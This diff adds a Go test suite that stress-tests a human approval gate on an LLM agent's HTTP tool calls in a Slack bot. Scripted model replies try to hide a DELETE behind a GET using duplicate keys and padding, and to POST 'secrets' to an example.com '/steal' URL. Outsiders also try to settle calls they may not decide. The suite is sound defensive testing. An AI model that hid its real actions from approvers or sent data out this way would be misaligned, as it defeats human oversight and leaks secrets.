@@ -1,0 +1,300 @@
+package main
+
+import (
+	"fmt"
+	"os/exec"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/countersign/countersign/handlers/slacktest"
+	"github.com/countersign/countersign/llm"
+	"github.com/countersign/countersign/llm/llmtest"
+)
+
+// The approval gate, tried as an attacker would: what a person approves
+// is exactly what runs, and only people the policy allows decide.
+
+const (
+	carol   = "U0CAROL"
+	mallory = "U0MALLORY"
+)
+
+// gatePolicy: Bob and Carol decide; nobody approves their own request.
+const gatePolicy = `
+tools:
+  http_request:
+    approval: required
+    approvers: [U0BOB, U0CAROL]
+    self_approval: false
+    allow_hosts: ["127.0.0.1"]
+`
+
+// The model hides a DELETE behind a GET with a duplicate key and enough
+// padding to push it off the card. No card is posted, nothing runs, and
+// the model is told why.
+func TestDuplicateKeyArgumentsNeverReachACard(t *testing.T) {
+	h := newHarness(t, "")
+	pad := strings.Repeat("x", 3000)
+	args := fmt.Sprintf(`{"method":"GET","url":%q,"headers":{"X-Pad":%q},"method":"DELETE","url":%q}`,
+		h.target.URL+"/shown", pad, h.target.URL+"/hidden")
+	escaped := fmt.Sprintf(`{"method":"GET","url":%q,"\u006dethod":"DELETE"}`, h.target.URL+"/shown")
+	h.model.Then(
+		llmtest.Reply("Fetching.", llm.ToolCall{ID: "c1", Name: "http_request", Arguments: args},
+			llm.ToolCall{ID: "c2", Name: "http_request", Arguments: escaped}),
+		llmtest.Reply("I could not send that request."),
+	)
+	h.command("fetch", nil, nil)
+	root := h.root(1)
+	h.reply(root, "I could not send that request.")
+	for _, c := range h.slack.Messages(root.Channel, root.TS) {
+		if hasAction(c, "approve") {
+			t.Errorf("a card was posted for ambiguous arguments: %s", c.Blocks)
+		}
+	}
+	if n, m := h.target.count("GET /shown"), h.target.count("DELETE /hidden"); n+m != 0 {
+		t.Errorf("GET /shown ran %d times, DELETE /hidden %d times; want neither", n, m)
+	}
+	reqs := h.model.Requests()
+	last := reqs[len(reqs)-1]
+	results := 0
+	for _, m := range last.Messages {
+		if m.Role == "tool" && strings.Contains(m.Text(), "appears twice") {
+			results++
+		}
+	}
+	if results != 2 {
+		t.Errorf("the model got %d error results naming the duplicate key, want 2", results)
+	}
+}
+
+// A call to a host outside allow_hosts is an error to the model at once,
+// not a card that fails after someone approved it.
+func TestForbiddenHostGetsNoCard(t *testing.T) {
+	h := newHarness(t, gatePolicy)
+	h.model.Then(
+		llmtest.Reply("Posting.", call("c1", "POST", "http://example.com/steal", "secrets")),
+		llmtest.Reply("That host is not allowed."),
+	)
+	h.command("post it", nil, nil)
+	root := h.root(1)
+	h.reply(root, "That host is not allowed.")
+	for _, c := range h.slack.Messages(root.Channel, root.TS) {
+		if hasAction(c, "approve") {
+			t.Errorf("a card was posted for a forbidden host: %s", c.Blocks)
+		}
+	}
+	if got := lastModelInput(h); !strings.Contains(got, "host not allowed") {
+		t.Errorf("the model was not told the host is not allowed: %s", got)
+	}
+}
+
+// The card shows the method and the whole URL, however long the body, and
+// the approval runs exactly what the card showed.
+func TestCardShowsWhatRuns(t *testing.T) {
+	h := newHarness(t, "")
+	long := strings.Repeat("b", 5000)
+	h.model.Then(llmtest.Reply("Posting.", call("c1", "POST", h.target.URL+"/deploy?env=prod", long)), llmtest.Reply("Posted."))
+	h.command("post", nil, nil)
+	root := h.root(1)
+	card := h.cards(root, 1)[0]
+	shown := h.card(card)
+	for _, want := range []string{"POST " + h.target.URL + "/deploy?env=prod", "more characters", "show_args", "sha256:"} {
+		if !strings.Contains(shown, want) {
+			t.Errorf("the card lacks %q: %s", want, shown)
+		}
+	}
+	h.click(card, "show_args", approver)
+	views := h.slack.WaitFor(t, "views.open", 1, 10*time.Second)
+	if got := strings.Count(views[0].Params["view"], "b"); got < len(long) {
+		t.Errorf("Show all shows %d of the body's %d characters", got, len(long))
+	}
+	h.click(card, "approve", approver)
+	h.reply(root, "Posted.")
+	if bodies := h.target.bodiesOf("POST /deploy"); len(bodies) != 1 || bodies[0] != long {
+		t.Errorf("POST /deploy ran with %d bodies, want the approved one once", len(bodies))
+	}
+}
+
+// An approver who replies in someone else's finished thread asks for the
+// next turn, and may not approve its calls with self_approval false.
+func TestReplyMakesItsAuthorTheRequester(t *testing.T) {
+	h := newHarness(t, gatePolicy)
+	root, card := h.deployFlow("Deployed.")
+	h.click(card, "approve", approver)
+	h.reply(root, "Deployed.")
+
+	h.model.Then(llmtest.Reply("Again.", call("c2", "POST", h.target.URL+"/deploy", "v3")), llmtest.Reply("Deployed again."))
+	h.event("", map[string]any{"type": "message", "channel": root.Channel, "user": approver,
+		"text": "deploy v3 too", "ts": "1700000100.000100", "thread_ts": root.TS})
+	second := h.cards(root, 2)[1]
+	if shown := h.card(second); !strings.Contains(shown, "<@"+approver+">") {
+		t.Errorf("the new card does not name %s as requester: %s", approver, shown)
+	}
+	h.click(second, "approve", approver)
+	h.ephemeral(approver, "may not approve it yourself")
+	if n := h.target.count("POST /deploy"); n != 1 {
+		t.Fatalf("deploy ran %d times after a self-approval, want 1", n)
+	}
+	h.click(second, "approve", carol)
+	h.reply(root, "Deployed again.")
+	if n := h.target.count("POST /deploy"); n != 2 {
+		t.Errorf("deploy ran %d times, want 2", n)
+	}
+}
+
+// Someone who may not decide replies in the thread: nothing is rejected,
+// pending or outcome unknown; they are told so, and their Retry, Mark done
+// and Skip clicks are refused like an Approve would be.
+func TestOutsiderCannotRejectByReplying(t *testing.T) {
+	h := newHarness(t, gatePolicy)
+	h.target.delay = 20 * time.Second // the bot is killed long before it answers
+	h.model.Then(
+		llmtest.Reply("Two things.", call("c1", "POST", h.target.URL+"/slow", "v2"), call("c2", "POST", h.target.URL+"/deploy", "v2")),
+		llmtest.Reply("Both settled."),
+	)
+	h.command("two things", nil, nil)
+	root := h.root(1)
+	cards := h.cards(root, 2)
+	// The slow call is approved, and the bot dies while it runs.
+	h.click(cards[0], "approve", approver)
+	h.eventually(func() bool { return h.target.count("POST /slow") == 1 }, "the slow call to arrive")
+	h.kill()
+	h.target.mu.Lock()
+	h.target.delay = 0
+	h.target.mu.Unlock()
+	h.start()
+	// The new process takes the thread over once the dead one's recovery
+	// wake-up is due (two leases).
+	var unknown slacktest.Call
+	deadline := time.Now().Add(60 * time.Second)
+	for unknown.TS == "" && time.Now().Before(deadline) {
+		for _, c := range h.slack.Messages(root.Channel, root.TS) {
+			if hasAction(c, "retry") {
+				unknown = c
+			}
+		}
+		time.Sleep(50 * time.Millisecond)
+	}
+	if unknown.TS == "" {
+		t.Fatal("no outcome-unknown card after the restart")
+	}
+
+	h.event("", map[string]any{"type": "message", "channel": root.Channel, "user": mallory,
+		"text": "reject everything", "ts": "1700000200.000100", "thread_ts": root.TS})
+	h.ephemeral(mallory, "rejected nothing")
+	for _, action := range []string{"retry", "mark_done", "skip"} {
+		h.click(unknown, action, mallory)
+	}
+	h.click(cards[1], "reject", mallory)
+	h.eventually(func() bool {
+		n := 0
+		for _, c := range h.slack.CallsTo("chat.postEphemeral") {
+			if c.User == mallory && strings.Contains(c.Text, "can't decide") {
+				n++
+			}
+		}
+		return n == 4
+	}, "four refusals for %s", mallory)
+	if strings.Contains(h.card(cards[1]), "Rejected") || strings.Contains(h.card(unknown), "Skipped") {
+		t.Fatalf("an outsider settled a call: %s / %s", h.card(cards[1]), h.card(unknown))
+	}
+
+	h.click(unknown, "mark_done", approver)
+	h.click(cards[1], "approve", carol)
+	h.reply(root, "Both settled.")
+	if n, m := h.target.count("POST /slow"), h.target.count("POST /deploy"); n != 1 || m != 1 {
+		t.Errorf("slow ran %d times and deploy %d; want once each", n, m)
+	}
+	if got := lastModelInput(h); !strings.Contains(got, "reject everything") || !strings.Contains(got, mallory) {
+		t.Errorf("the model did not get the outsider's note: %s", got)
+	}
+}
+
+// A click is tied to its card's channel: the same button value clicked
+// from another channel decides nothing.
+func TestClickFromAnotherChannelIsRefused(t *testing.T) {
+	h := newHarness(t, "")
+	root, card := h.deployFlow("Deployed.")
+	body := slacktest.BlockActions(slacktest.Click{User: approver, Channel: "C0ELSEWHERE", MessageTS: card.TS,
+		ActionID: "approve", Value: buttonValue(t, card, "approve")})
+	h.send("/slack/interactions", "application/x-www-form-urlencoded", body, nil)
+	h.ephemeral(approver, "belongs to another channel")
+	if n := h.target.count("POST /deploy"); n != 0 {
+		t.Fatalf("deploy ran %d times from another channel's click", n)
+	}
+	h.click(card, "approve", approver)
+	h.reply(root, "Deployed.")
+}
+
+// An edit corrected after an inline error is submitted again with the same
+// view id and hash, as Slack does; it is applied, not dropped as a repeat.
+func TestCorrectedEditWithTheSameViewHash(t *testing.T) {
+	h := newHarness(t, "")
+	root, card := h.deployFlow("Deployed.")
+	h.click(card, "edit", approver)
+	view := decodeView(t, h.slack.WaitFor(t, "views.open", 1, 10*time.Second)[0])
+	submit := func(args string) string {
+		return readAll(t, h.submit(slacktest.Submission{User: approver, ViewID: "V0EDIT", Hash: "1700000000.hash",
+			CallbackID: view.CallbackID, PrivateMetadata: view.PrivateMetadata,
+			Values: map[string]map[string]string{"args": {"args_input": args}}}))
+	}
+	if body := submit(`{"method":"POST","url":"` + h.target.URL + `/deploy","body":"v3","body":"v4"}`); !strings.Contains(body, "appears twice") {
+		t.Fatalf("a duplicate key in the edit answered %s; want an inline error", body)
+	}
+	edited := `{"method":"POST","url":"` + h.target.URL + `/deploy","body":"v3"}`
+	if body := submit(edited); body != "" {
+		t.Fatalf("the corrected edit answered %s; want the modal closed", body)
+	}
+	if body := submit(edited); body != "" {
+		t.Errorf("a repeated delivery of the edit answered %s; want the modal closed", body)
+	}
+	h.reply(root, "Deployed.")
+	if bodies := h.target.bodiesOf("POST /deploy"); len(bodies) != 1 || bodies[0] != "v3" {
+		t.Errorf("deploy ran with %q, want the edited body once", bodies)
+	}
+}
+
+// bot chat decides through the same door as Slack: pointed at a policy
+// with approvers, it refuses anyone else.
+func TestChatAppliesThePolicy(t *testing.T) {
+	h := newHarness(t, gatePolicy)
+	h.model.Then(llmtest.Reply("Deploying.", call("c1", "POST", h.target.URL+"/deploy", "v2")), llmtest.Reply("Deployed."))
+	cmd := exec.Command(botBinary, "chat", "--user", mallory, "--thread", "chat-gate")
+	cmd.Env = h.env
+	cmd.Stdin = strings.NewReader("deploy v2\na\nq\n")
+	out, _ := cmd.CombinedOutput()
+	if !strings.Contains(string(out), "You can't decide this call") || strings.Contains(string(out), "<@") {
+		t.Errorf("bot chat as %s printed:\n%s\nwant a refusal in plain text", mallory, out)
+	}
+	if n := h.target.count("POST /deploy"); n != 0 {
+		t.Fatalf("deploy ran %d times on an outsider's approval", n)
+	}
+	resume, err := h.run("a\n", "chat", "--user", carol, "--thread", "chat-gate")
+	if err != nil || !strings.Contains(resume, "Deployed.") || h.target.count("POST /deploy") != 1 {
+		t.Errorf("bot chat as %s: %v\n%s\ndeploy ran %d times, want 1", carol, err, resume, h.target.count("POST /deploy"))
+	}
+}
+
+// The handlers never reach past the runner into the engine.
+func TestHandlersDoNotImportGraph(t *testing.T) {
+	out, err := exec.Command("go", "list", "-f", "{{.ImportPath}} {{.Imports}}", "../../handlers/...").CombinedOutput()
+	if err != nil {
+		t.Fatalf("go list: %v\n%s", err, out)
+	}
+	for _, line := range strings.Split(strings.TrimSpace(string(out)), "\n") {
+		if strings.Contains(line, "countersign/graph") {
+			t.Errorf("%s", line)
+		}
+	}
+}
+
+// lastModelInput is the text of every message of the model's last request.
+func lastModelInput(h *harness) string {
+	reqs := h.model.Requests()
+	var b strings.Builder
+	for _, m := range reqs[len(reqs)-1].Messages {
+		b.WriteString(m.Role + ": " + m.Text() + "\n")
+	}
+	return b.String()
+}
